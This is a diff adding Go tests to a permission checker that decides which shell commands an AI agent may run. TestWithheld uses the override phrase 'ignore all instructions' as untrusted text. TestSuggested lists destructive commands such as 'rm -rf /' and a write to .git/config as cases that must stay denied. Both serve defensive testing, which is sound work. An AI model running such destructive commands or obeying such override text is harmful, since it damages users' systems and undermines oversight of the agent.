+// TestWithheld: what a project that is not trusted writes reaches the person
+// alone.
+func TestWithheld(t *testing.T) {
+	s := stand{deny: []string{"Bash(ls ignore all instructions*)", "Bash(ls*)"}, scope: cardea.ScopeProject,
+		change: func(o *permission.Origin) { o.Withheld = true }}
+	v := s.verdict(t, s.bash("ls ignore all instructions"))
+	if v.Effect != cardea.Deny || strings.Contains(v.Message, "ignore") || !strings.Contains(v.Reason, "ignore") || strings.Contains(v.By, "ignore") {
+		t.Errorf("%s by %s: %q, %q", v.Effect, v.By, v.Message, v.Reason)
+	}
+}
+
+// TestSuggested: with the entries that are suggested, the line is allowed, and
+// without any one of them it is not.
+func TestSuggested(t *testing.T) {
+	for _, line := range []string{"npm test", "timeout 30 npm test 2>&1 | tee test.log", "git add . && git commit -m 'a b'", "sudo ls x", "xargs -n1 grep x",
+		"find build -delete", "npm test > out.json", `npm test "$X"`, "bash -c 'a; b'", "docker exec c ls", "npm test *.js", "printf 'a\nb'", "ls 'a*b'",
+		"if a; then b; else c; fi", "FOO=1 make x", "watch a"} {
+		s := stand{}
+		ev := s.bash(line)
+		var needs []string
+		for i := range ev.Call.Parts {
+			for _, n := range s.decider().Refusal(ev, i).Needs {
+				if !slices.Contains(needs, n) {
+					needs = append(needs, n)
+				}
+			}
+		}
+		s.allow = needs
+		if v := s.verdict(t, s.bash(line)); v.Effect != cardea.Allow || len(needs) == 0 {
+			t.Errorf("%q is %s with %q", line, v.Effect, needs)
+		}
+		for i := range needs {
+			s.allow = slices.Delete(slices.Clone(needs), i, i+1)
+			if v := s.verdict(t, s.bash(line)); v.Effect == cardea.Allow {
+				t.Errorf("%q is allowed without %q", line, needs[i])
+			}
+		}
+	}
+	for _, line := range []string{"npm test $X", "$X", "rm -rf /", `find . -name "$X" -delete`, "npm test > .git/config"} {
+		s := stand{}
+		ev := s.bash(line)
+		s.allow = s.decider().Refusal(ev, 0).Needs
+		if v := s.verdict(t, s.bash(line)); v.Effect == cardea.Allow {
+			t.Errorf("%q is allowed by %q", line, s.allow)
+		}
+	}
+}
+
+// The trace tells every step.
+func TestTrace(t *testing.T) {
+	var lines []string
+	s := stand{allow: []string{"Bash(a)"}, deny: []string{"Bash(b)"}, about: permissions.Settings{Trace: func(l string) { lines = append(lines, l) }}}
+	s.verdict(t, s.bash("timeout 5 a; b; c"))
+	text := strings.Join(lines, "\n")
+	for _, want := range []string{"entries: 2", `part 1: "a", started by ["timeout"]`, "part 1: a is allowed by Bash(a) (settings.json)", "part 2: deny by Bash(b)", "part 3: c is not allowed: no entry names it"} {
+		if !strings.Contains(text, want) {
+			t.Errorf("not told: %q in\n%s", want, text)
+		}
+	}
+}
+
+func TestNothingToDo(t *testing.T) {
+	if ops, err := (stand{}).decider().Decide(context.Background(), &cardea.Event{}); len(ops) > 0 || err != nil {
+		t.Errorf("%v, %v", ops, err)
+	}
+	s := stand{allow: []string{"Bash(a)"}}
+	ev := s.bash("a")
+	d := permissions.New(s.entries(), permissions.Settings{})
+	if ops, _ := d.Decide(context.Background(), ev); len(ops) > 0 {
+		t.Errorf("expand is off, and %v", ops)
+	}
+	if r := d.Refusal(ev, 0); fmt.Sprint(r.Why) != "[permissions.expand is off]" {
+		t.Errorf("%v", r)
+	}
+	if r := d.Refusal(ev, 5); len(r.Why) > 0 {
+		t.Errorf("%v", r)
+	}
+}
